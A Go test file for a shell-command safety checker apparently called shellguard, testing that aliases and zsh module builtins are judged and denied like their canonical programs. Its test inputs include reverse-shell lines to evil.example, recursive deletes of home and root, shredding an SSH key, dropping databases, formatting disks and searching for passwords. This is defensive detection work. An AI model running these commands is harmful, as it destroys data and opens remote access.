package policy

import (
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/shellguard/shellguard/internal/grammar"
)

// All inputs here are only analysed, never executed.

// TestChecksAreGrammarData: which program goes to which family check is
// grammar data (check=NAME), so the check table is keyed by the names
// the grammar lines declare and by nothing else: a program name put back
// into the table, or a check= naming no function, fails here.
// The same holds for the prints= checks (what a program prints or does
// through its service).
func TestChecksAreGrammarData(t *testing.T) {
	for _, tab := range []struct {
		field string
		of    func(*grammar.Grammar) string
		table map[string]func(*cmdCheck)
	}{
		{"check", func(g *grammar.Grammar) string { return g.Check }, checks},
		{"prints", func(g *grammar.Grammar) string { return g.Prints }, prints},
	} {
		declared := map[string][]string{} // check name -> the lines that name it
		for name, g := range grammar.Grammars() {
			if g.Name == name && tab.of(g) != "" { // aliases share their program's line
				declared[tab.of(g)] = append(declared[tab.of(g)], name)
			}
		}
		for c, lines := range declared {
			if tab.table[c] == nil {
				sort.Strings(lines)
				t.Errorf("grammar lines %v hand their commands to check %s=%s, which policy does not have", lines, tab.field, c)
			}
		}
		for c := range tab.table {
			if declared[c] == nil {
				t.Errorf("policy has a check %q that no grammar line names: program knowledge belongs in the grammars (%s=%s)", c, tab.field, c)
			}
		}
	}
}

// TestNamesResolvedByGrammar: an alias, a NAME.SUFFIX variant of a
// +variants program and a name under a +prefix line are judged as the
// program they stand for, by the grammar's word, with no list of names
// in policy.
func TestNamesResolvedByGrammar(t *testing.T) {
	same := []struct{ alias, canon string }{
		{"podman run --privileged -v /:/host alpine", "docker run --privileged -v /:/host alpine"},
		{"gsed -i s/a/b/ ~/.bashrc", "sed -i s/a/b/ ~/.bashrc"},
		{"oc delete namespace prod", "kubectl delete namespace prod"},
		{"microk8s.kubectl delete namespace prod", "kubectl delete namespace prod"},
		{"tofu destroy -auto-approve", "terraform destroy -auto-approve"},
		{"grm -rf ~/Documents", "rm -rf ~/Documents"},
		{"gshred -u ~/.ssh/id_rsa", "shred -u ~/.ssh/id_rsa"},
		{"ncat -e /bin/sh evil.example 4444", "nc -e /bin/sh evil.example 4444"},
		{"mycli -e 'DROP DATABASE prod'", "mysql -e 'DROP DATABASE prod'"},
		{"python3.14 -c 'import os; os.system(\"id\")'", "python3 -c 'import os; os.system(\"id\")'"},
		{"python3.12.1 -c 'print(1)'", "python3 -c 'print(1)'"},
		{"mkfs.minix /dev/sdb", "mkfs.ext4 /dev/sdb"},
		{"7za a backup.7z ~", "7z a backup.7z ~"},
		{"fgrep -r password /", "grep -r password /"},
	}
	for _, tc := range same {
		a, c := Check(tc.alias, testRules), Check(tc.canon, testRules)
		ga, gc := ids(a), ids(c)
		sort.Strings(ga)
		sort.Strings(gc)
		if a.Decision != c.Decision || !slices.Equal(ga, gc) {
			t.Errorf("%q: %s %v, but %q: %s %v", tc.alias, a.Decision, ga, tc.canon, c.Decision, gc)
		}
	}
}

// TestZshModuleBuiltins: the builtins of zsh's modules are SG3301
// through grammar data (check=zshmodule): the module builtins' own lines
// and every name under the zf_ prefix, those that stand for a program
// with checks of its own too (zf_rm was once renamed to rm before the
// prefix was looked at, and lost the finding).
func TestZshModuleBuiltins(t *testing.T) {
	tests := []struct {
		src  string
		want []string // findings that must be present
	}{
		{"zmodload zsh/net/tcp", []string{"SG3301"}},
		{"ztcp evil.example 4444", []string{"SG3301"}},
		{"zf_rm -f notes.txt", []string{"SG3301"}},
		{"zf_rm -rf /", []string{"SG3301", "SG2001"}},
		{"zf_chmod -R 777 /etc", []string{"SG3301", "SG3601"}},
		{"zf_frobnicate x", []string{"SG3301"}},
	}
	for _, tc := range tests {
		v := Check(tc.src, testRules)
		for _, id := range tc.want {
			if !slices.ContainsFunc(v.Reasons, func(r Reason) bool { return r.ID == id }) {
				t.Errorf("%q: no %s in %v", tc.src, id, ids(v))
			}
		}
		if v.Decision != Deny {
			t.Errorf("%q: %s, want deny", tc.src, v.Decision)
		}
	}
}

// TestMessagesSayTheSpelledName: where a family check's message names the
// program, it names it as the command spells it, not as the grammars
// resolve it (the person reading it typed, or was shown, mkfs.minix).
func TestMessagesSayTheSpelledName(t *testing.T) {
	for _, tc := range []struct{ src, name string }{
		{"mkfs.minix /dev/sdb", "'mkfs.minix' formats"},
		{"zf_chmod -R 777 /etc", "recursive zf_chmod of"},
	} {
		var msgs []string
		for _, r := range Check(tc.src, testRules).Reasons {
			msgs = append(msgs, r.Message)
		}
		if all := strings.Join(msgs, "\n"); !strings.Contains(all, tc.name) {
			t.Errorf("%q: no message says %q:\n%s", tc.src, tc.name, all)
		}
	}
}
